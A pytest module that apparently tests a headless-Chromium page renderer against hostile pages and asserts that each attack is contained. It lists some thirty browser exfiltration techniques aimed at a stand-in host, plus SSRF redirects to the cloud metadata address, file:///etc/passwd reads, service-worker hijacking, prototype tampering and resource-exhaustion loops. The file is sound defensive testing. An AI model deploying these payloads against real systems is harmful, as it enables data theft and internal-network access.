"""Hostile pages in a real Chromium: what each may do, and that nothing of it costs the others anything."""

from __future__ import annotations

import json
import os
import re
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from contextlib import ExitStack
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from kbcite.web.processes import group_members
from tests.script_site import ASSETS, MILL, needs_browser, script, shell
from tests.site_server import Answer, Reply, Site, serve_site

pytestmark = [needs_browser, pytest.mark.browser, pytest.mark.slow]

DONE = f"document.body.insertAdjacentHTML('beforeend', `<article><p>{MILL}</p><p>{MILL}</p></article>`);"
"""What a page does at last: it has text, and is read."""


def hostile(code: str, body: str = "") -> str:
    return shell(f"{body}<script>{code}</script>")


WAYS_OUT = (
    "fetch('SECRET/fetch', {mode: 'no-cors'}).catch(note('fetch'))",
    "const xhr = new XMLHttpRequest(); xhr.open('GET', 'SECRET/xhr'); xhr.onerror = note('xhr'); xhr.send()",
    "new Image().src = 'SECRET/image'",
    "new EventSource('SECRET/events')",
    "new WebSocket('SECRET/socket'.replace('http', 'ws'))",
    "navigator.sendBeacon('SECRET/beacon', 'x')",
    "window.open('SECRET/popup')",
    "make('script', {src: 'SECRET/script.js'})",
    "make('script', {type: 'module', src: 'SECRET/module.js'})",
    "make('iframe', {src: 'SECRET/frame'})",
    "make('iframe', {srcdoc: '<img src=SECRET/srcdoc><script>fetch(`SECRET/srcdoc-fetch`)</' + 'script>'})",
    "make('object', {data: 'SECRET/object'})",
    "make('embed', {src: 'SECRET/embed'})",
    "make('link', {rel: 'prefetch', href: 'SECRET/prefetch'})",
    "make('link', {rel: 'preload', as: 'fetch', href: 'SECRET/preload'})",
    "make('link', {rel: 'preconnect', href: 'SECRET'})",
    "make('link', {rel: 'stylesheet', href: 'SECRET/style.css'})",
    "make('link', {rel: 'icon', href: 'SECRET/icon'})",
    "make('link', {rel: 'manifest', href: 'SECRET/manifest'})",
    "make('style', {textContent: '@import url(SECRET/import.css); body { background: url(SECRET/background) }'})",
    "make('video', {src: 'SECRET/video', poster: 'SECRET/poster'})",
    "make('audio', {src: 'SECRET/audio', autoplay: true})",
    "make('form', {action: 'SECRET/form', method: 'post', target: '_blank'}).submit()",
    "make('a', {href: 'SECRET/link', ping: 'SECRET/ping'}).click()",
    "make('script', {type: 'speculationrules', textContent: '{\"prerender\": [{\"urls\": [\"SECRET/prerender\"]}]}'})",
    "new Worker(blob(`fetch('SECRET/worker').catch(() => 0); importScripts('SECRET/import.js')`))",
    "new SharedWorker(blob(`onconnect = () => fetch('SECRET/shared')`))",
    "const peer = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:UDP'},"
    " {urls: 'turn:127.0.0.1:TCP?transport=tcp', username: 'a', credential: 'b'}]}); peer.createDataChannel('x');"
    " peer.onicecandidate = (e) => { if (e.candidate) note('candidate')(e.candidate.candidate) };"
    " peer.createOffer().then((offer) => peer.setLocalDescription(offer))",
    "if (self.WebTransport) new WebTransport('https://127.0.0.1:UDP/x').ready.catch(note('transport'))",
    "new PresentationRequest('SECRET/present').start().catch(() => 0)",
    "location.href = 'SECRET/leave'",
)
HELPERS = """
const note = (name) => (error) => document.body.insertAdjacentHTML('beforeend', `<i>${name} ${error}</i>`);
const make = (tag, more) => { const made = Object.assign(document.createElement(tag), more); document.body.append(made); return made };
const blob = (code) => URL.createObjectURL(new Blob([code]));
"""
PAGES: dict[str, Answer] = {
    "/good": hostile(DONE),
    "/ways-out": hostile(""),
    "/metadata": hostile(
        "fetch('/to-metadata').then(r => r.text()).then(t => document.title = 'GOT ' + t).catch(() => 0);"
        "location.href = 'http://169.254.169.254/latest/meta-data/';" + DONE
    ),
    "/to-metadata": Reply(status=302, headers=(("Location", "http://169.254.169.254/latest/meta-data/"),)),
    "/loop": hostile("for (;;) {}"),
    "/loop-later": hostile(f"{DONE} setTimeout(() => {{ for (;;) {{}} }}, 50)"),
    "/memory": hostile("const kept = []; for (;;) kept.push(new Uint8Array(20000000).fill(7));"),
    "/reload": hostile("location.reload()"),
    "/leave": hostile("setInterval(() => location.href = '/leave?' + Math.random(), 1)"),
    "/refresh": Reply(
        hostile("").encode(), headers=(("Content-Type", "text/html"), ("Refresh", "0; url=http://169.254.169.254/"))
    ),
    "/alert": hostile("for (;;) alert('again')"),
    "/huge": hostile("for (let i = 0; i < 200000; i++) document.body.append(document.createElement('b'))"),
    "/long": hostile("document.body.append('x'.repeat(6000000))"),
    "/download": hostile(
        "const a = Object.assign(document.createElement('a'), {download: 'kbcite-test-download.bin',"
        " href: URL.createObjectURL(new Blob(['x']))}); document.body.append(a); a.click(); location.href = '/file.zip';"
        + DONE
    ),
    "/file.zip": Reply(b"PK", headers=(("Content-Type", "application/zip"), ("Content-Disposition", "attachment"))),
    "/worker": hostile(
        "navigator.serviceWorker.register('/sw.js').catch(() => 0);"
        "navigator.serviceWorker.ready.then(() => document.title = 'controlled').catch(() => 0);" + DONE
    ),
    "/sw.js": script("self.onfetch = (e) => e.respondWith(new Response('TAKEN'))"),
    "/local-file": hostile(
        "fetch('file:///etc/passwd').then(r => r.text()).then(t => document.body.append('GOT ' + t)).catch(() => 0);"
        "document.body.append(Object.assign(document.createElement('iframe'), {src: 'file:///etc/passwd'}));" + DONE
    ),
    "/permissions": hostile(
        "navigator.geolocation.getCurrentPosition(() => document.body.append('GRANTED'), () => document.body.append('position refused'));"
        "Notification.requestPermission().then(p => document.body.append('notification ' + p));" + DONE
    ),
    "/tampered": hostile(
        "Document.prototype.importNode = () => { throw 1 }; JSON.stringify = () => 'x'; Element.prototype.getRootNode = null;"
        "Object.defineProperty(Element.prototype, 'outerHTML', {get: () => 'FORGED'}); document.createTreeWalker = null;"
        + DONE
    ),
    "/disallowed": hostile("fetch('/secret/data').catch(() => 0); fetch('/to-secret').catch(() => 0);" + DONE),
    "/secret/data": "SECRET DATA",
    "/to-secret": Reply(status=302, headers=(("Location", "/secret/data"),)),
    "/flood": hostile("for (let i = 0; i < 1000; i++) fetch('/api/items?from=' + i)"),
    "/no-document": hostile("document.documentElement.remove()"),
    "/good-at-last": hostile(DONE),
}


@dataclass
class Outside:
    """Doors that no page may reach: a web server, and a datagram port."""

    site: Site
    port: int
    datagrams: list[bytes] = field(default_factory=list)


@dataclass
class Attacked:
    pages: dict[str, dict[str, Any]]
    process: dict[str, Any]
    site: Site
    outside: Outside
    left: list[tuple[int, int]]
    downloads: set[Path]


def shown(page: dict[str, Any]) -> str:
    """The page's HTML without its scripts, which hold what they are to write."""
    return re.sub(r"<script>.*?</script>", "", page["html"], flags=re.DOTALL)


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Attacked]:
    """All hostile pages, rendered by one process."""
    folder = tmp_path_factory.mktemp("home")
    with ExitStack() as stack:
        secret = stack.enter_context(serve_site({"/": "secret"}))
        site = stack.enter_context(serve_site(PAGES | ASSETS))
        door = stack.enter_context(socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
        door.bind(("127.0.0.1", 0))
        outside = Outside(secret, door.getsockname()[1])

        def listen() -> None:
            while True:
                try:
                    outside.datagrams.append(door.recv(2000))
                except OSError:
                    return

        threading.Thread(target=listen, daemon=True).start()
        code = HELPERS + "".join(f"try {{ {way} }} catch (error) {{ note('refused')(error) }}\n" for way in WAYS_OUT)
        code = code.replace("SECRET", secret.url).replace("UDP", str(outside.port))
        site.pages["/ways-out"] = hostile(code.replace("TCP", secret.url.rpartition(":")[2]) + DONE)
        paths = [
            path
            for path, page in PAGES.items()
            if (isinstance(page, str) and page.startswith("<!")) or path == "/refresh"
        ]
        done = subprocess.run(
            [sys.executable, "-m", "tests.web.render_alone", site.url, *paths],
            capture_output=True, text=True, timeout=400, env=_environment(folder), check=False,
        )  # fmt: skip
        assert done.returncode == 0, done.stderr
        *pages, process = map(json.loads, done.stdout.splitlines())
        time.sleep(0.5)
        left = list(group_members(process["group"]))
        yield Attacked({page["path"]: page for page in pages}, process, site, outside, left, set(folder.rglob("*")))


def _environment(folder: Path) -> dict[str, str]:
    return dict(os.environ) | {"HOME": str(folder)}


@pytest.mark.parametrize("path", ["/good", "/good-at-last"])
def test_other_pages_lose_nothing(attacked: Attacked, path: str) -> None:
    assert MILL in shown(attacked.pages[path])


def test_no_page_reaches_a_host_that_is_not_allowed_on_any_way(attacked: Attacked) -> None:
    assert MILL in shown(attacked.pages["/ways-out"])
    assert attacked.outside.site.requests == []
    assert attacked.outside.datagrams == []
    assert "candidate" not in shown(attacked.pages["/ways-out"])


def test_a_redirect_to_the_metadata_service_is_refused(attacked: Attacked) -> None:
    assert MILL in shown(attacked.pages["/metadata"])
    assert "GOT" not in shown(attacked.pages["/metadata"])
    assert "/to-metadata" in attacked.site.paths()


@pytest.mark.parametrize(
    ("path", "reasons"),
    [
        ("/loop", {"render_timeout"}),
        ("/memory", {"render_memory", "render_crashed", "render_timeout"}),
        ("/leave", {"render_requests", "render_timeout"}),
        ("/alert", {"render_requests", "render_timeout"}),
        ("/huge", {"render_too_large", "render_memory", "render_timeout"}),
        ("/long", {"render_too_large"}),
        ("/flood", {"render_requests"}),
        ("/no-document", {"render_crashed"}),
    ],
)
def test_a_page_without_end_is_given_up(attacked: Attacked, path: str, reasons: set[str]) -> None:
    page = attacked.pages[path]
    assert page["reason"] in reasons, page
    assert page["took"] < 120, "in its limit of 20 s, behind others and with a restart"


def test_reloading_for_ever_ends(attacked: Attacked) -> None:
    page = attacked.pages["/reload"]
    assert page.get("reason", "render_requests") == "render_requests"
    assert attacked.site.paths().count("/reload") == 1


def test_a_refresh_leads_nowhere(attacked: Attacked) -> None:
    assert attacked.pages["/refresh"].get("left_for") is None


def test_a_download_writes_no_file(attacked: Attacked) -> None:
    assert MILL in shown(attacked.pages["/download"])
    assert not [path for path in attacked.downloads if "download" in path.name or path.suffix in (".zip", ".bin")]
    assert "/file.zip" not in attacked.site.paths()


def test_no_service_worker_is_registered(attacked: Attacked) -> None:
    assert MILL in shown(attacked.pages["/worker"])
    assert "controlled" not in shown(attacked.pages["/worker"])
    assert "/sw.js" not in attacked.site.paths()


def test_no_file_is_read(attacked: Attacked) -> None:
    assert MILL in shown(attacked.pages["/local-file"])
    assert "root:" not in shown(attacked.pages["/local-file"])
    assert "GOT" not in shown(attacked.pages["/local-file"])


def test_nothing_is_permitted(attacked: Attacked) -> None:
    html = shown(attacked.pages["/permissions"])
    assert "GRANTED" not in html
    assert "notification granted" not in html


def test_a_page_cannot_forge_what_is_read_of_it(attacked: Attacked) -> None:
    assert MILL in shown(attacked.pages["/tampered"])
    assert "FORGED" not in shown(attacked.pages["/tampered"]).partition("<article>")[2]


def test_robots_txt_holds_for_what_scripts_ask_for(attacked: Attacked) -> None:
    assert MILL in shown(attacked.pages["/disallowed"])
    assert "/secret/data" not in attacked.site.paths()


def test_our_memory_stays_small(attacked: Attacked) -> None:
    assert attacked.process["peak_mb"] < 300


def test_no_process_is_left(attacked: Attacked) -> None:
    assert attacked.left == []
